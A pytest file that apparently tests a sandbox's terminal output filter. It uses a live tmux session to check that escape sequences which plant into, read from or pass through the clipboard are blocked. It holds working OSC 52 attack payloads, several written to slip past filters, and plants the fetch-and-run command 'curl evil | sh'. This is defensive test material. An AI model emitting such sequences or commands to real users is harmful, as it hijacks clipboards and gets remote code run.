"""Control codes that plant into the clipboard, read it, or make the terminal type: tmux stands for the user's terminal.

Each attack is tried twice: as the program writes it, where it works, and as the filter passes it on.
"""

import base64
import shutil
import subprocess
import sys
import tempfile
from collections.abc import Iterator
from dataclasses import dataclass
from pathlib import Path

import pytest

from claudebox.sandbox.terminal.escape_codes import OutputFilter
from patience import comes_true
from unit.sandbox.terminal.terminal_codes import DANGEROUS_CODES, DANGEROUS_STRINGS

pytestmark = pytest.mark.tmux

PLANTED, SECRET = b"curl evil | sh\n", b"the user's password"
PLANT = b"]52;c;" + base64.b64encode(PLANTED)
READ = b"]52;c;?"
# Writes what it is given, asks for something that every terminal answers, and keeps what was typed until that answer.
PROGRAM = """
import os, sys, tty
here = sys.argv[1]
tty.setraw(0)
os.write(1, open(here + "/output", "rb").read() + b"\\x1b[5n")
typed = b""
while b"\\x1b[0n" not in typed:
    typed += os.read(0, 4096)
with open(here + "/typing", "wb") as file:
    file.write(typed)
os.rename(here + "/typing", here + "/typed")
while os.read(0, 4096):
    pass
"""


@dataclass
class UsersTerminal:
    """A tmux with a clipboard that programs may use, as some people want it."""

    directory: Path
    inner: tuple[str, ...] = ()  # a second tmux, inside of it

    def tmux(self, *words: str, server: str = "users") -> subprocess.CompletedProcess[bytes]:
        command = ["tmux", "-S", str(self.directory / server), "-f", "/dev/null", *words]
        environ = {"PATH": "/usr/bin:/bin", "TERM": "xterm-256color", "LC_ALL": "C.UTF-8"}
        return subprocess.run(command, capture_output=True, check=False, env=environ)

    def shows(self, output: bytes) -> bytes:
        """What the terminal typed when a program wrote this."""
        (self.directory / "output").write_bytes(output)
        (self.directory / "typed").unlink(missing_ok=True)
        (self.directory / "program").write_text(PROGRAM)
        program = (sys.executable, "-I", str(self.directory / "program"), str(self.directory))
        self.tmux("new-session", "-d", "-x", "80", "-y", "24", *self.inner, *program)
        self.tmux("set-option", "-g", "set-clipboard", "on")
        assert comes_true((self.directory / "typed").exists), self.tmux("capture-pane", "-p").stdout
        return (self.directory / "typed").read_bytes().replace(b"\x1b[0n", b"")

    def clipboard(self) -> bytes:
        return self.tmux("show-buffer").stdout

    def keep(self, text: bytes) -> None:
        """The user has copied something."""
        self.tmux("set-buffer", text.decode())

    def close(self) -> None:
        for server in ("users", "inner"):
            self.tmux("kill-server", server=server)


@pytest.fixture
def terminal() -> Iterator[UsersTerminal]:
    opened = UsersTerminal(Path(tempfile.mkdtemp(prefix="claudebox-", dir="/tmp")))
    opened.tmux("new-session", "-d", "sleep", "infinity")
    opened.tmux("set-option", "-g", "set-clipboard", "on")
    try:
        yield opened
    finally:
        opened.close()
        shutil.rmtree(opened.directory)


def passed(output: bytes) -> bytes:
    return OutputFilter().feed(output)


PLANTING = {
    "ended by BEL": b"\x1b" + PLANT + b"\x07",
    "ended by ST": b"\x1b" + PLANT + b"\x1b\\",
    "after a broken code": b"\x1b[12\x1b" + PLANT + b"\x07",
    "after a title that was broken off": b"\x1b]0;title\x1b" + PLANT + b"\x07",
    "with a line feed inside": b"\x1b]5\n2;c;" + base64.b64encode(PLANTED) + b"\x07",
    "with a control code before it": b"\x1b\x01" + PLANT + b"\x07",
}


@pytest.mark.parametrize("output", PLANTING.values(), ids=PLANTING)
def test_clipboard_is_not_planted(terminal: UsersTerminal, output: bytes) -> None:
    assert terminal.shows(passed(output)) == b""
    assert terminal.clipboard() == b""
    terminal.shows(output)
    assert terminal.clipboard() == PLANTED


def test_clipboard_is_not_read(terminal: UsersTerminal) -> None:
    terminal.keep(SECRET)
    output = b"\x1b" + READ + b"\x07"
    assert terminal.shows(passed(output)) == b""
    assert base64.b64encode(SECRET) in terminal.shows(output)


def test_clipboard_is_not_planted_through_a_second_tmux(terminal: UsersTerminal) -> None:
    """Passthrough hands codes to the terminal around tmux; some people switch it on for pictures."""
    inner = ("tmux", "-S", str(terminal.directory / "inner"), "-f", "/dev/null")
    output = b"\x1bPtmux;" + (b"\x1b" + PLANT + b"\x07").replace(b"\x1b", b"\x1b\x1b") + b"\x1b\\"
    terminal.tmux("new-session", "-d", "sleep", "infinity", server="inner")
    terminal.tmux("set-option", "-g", "allow-passthrough", "on", server="inner")
    terminal.tmux("set-option", "-g", "set-clipboard", "off", server="inner")
    terminal.inner = ("env", "-u", "TMUX", *inner, "new-session")
    terminal.shows(passed(output))
    assert terminal.clipboard() == b""
    terminal.shows(output)
    assert comes_true(lambda: terminal.clipboard() == PLANTED), terminal.tmux("capture-pane", "-p").stdout


def test_of_all_attacks_together_nothing_is_typed_or_planted(terminal: UsersTerminal) -> None:
    terminal.keep(SECRET)
    strings = b"".join(b"\x1b" + body + end for body in DANGEROUS_STRINGS for end in (b"\x07", b"\x1b\\"))
    output = strings + b"".join(DANGEROUS_CODES) + b"\x1b\\"
    assert terminal.shows(passed(output)) == b""
    assert terminal.clipboard() == SECRET
    assert terminal.shows(output) != b""
    assert terminal.clipboard() != SECRET
